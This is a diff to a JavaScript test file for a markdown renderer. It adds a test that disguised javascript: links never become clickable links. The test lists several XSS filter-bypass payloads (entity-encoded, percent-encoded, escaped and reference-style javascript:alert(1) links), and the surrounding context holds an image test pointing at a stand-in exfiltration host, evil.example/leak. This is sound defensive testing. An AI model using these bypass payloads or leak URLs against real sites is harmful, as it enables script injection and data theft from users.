@@ -47,6 +47,23 @@ test('javascript:, data: and vbscript: links never become links; https ones do, 
   assert.doesNotMatch(box.innerHTML, /href="(javascript|data|vbscript):/i);
 });
 
+test('disguised javascript: links (entities, references, angle brackets, escapes) never become links either', () => {
+  const { render } = setup();
+  const box = render([
+    '[a](jav&#x61;script:alert(1)) [b](&#106;avascript:alert(1)) [c](<javascript:alert(1)>) [d](java\\script:alert(1))',
+    '[e][1] [f](%6Aavascript:alert(1)) [g](javascript&colon;alert(1)) <a href="javascript:alert(1)">h</a>',
+    '',
+    '[1]: javascript:alert(1)',
+  ].join('\n'));
+  for (const a of Array.from(box.querySelectorAll('a'))) {
+    assert.match(a.getAttribute('href') ?? '', /^(https?:|mailto:)/i, `a link to ${a.getAttribute('href')}`);
+  }
+  for (const node of Array.from(box.querySelectorAll('*'))) {
+    for (const attribute of Array.from(node.attributes)) assert.doesNotMatch(attribute.value, /script\s*:/i, `${node.tagName} ${attribute.name}`);
+  }
+  assert.match(box.textContent ?? '', /<a href="javascript:alert\(1\)">h<\/a>/, 'the raw HTML link is shown as text');
+});
+
 test('images are never loaded: they become links to the image', () => {
   const { render } = setup();
   const box = render('![secret](https://evil.example/leak?data=abc)');
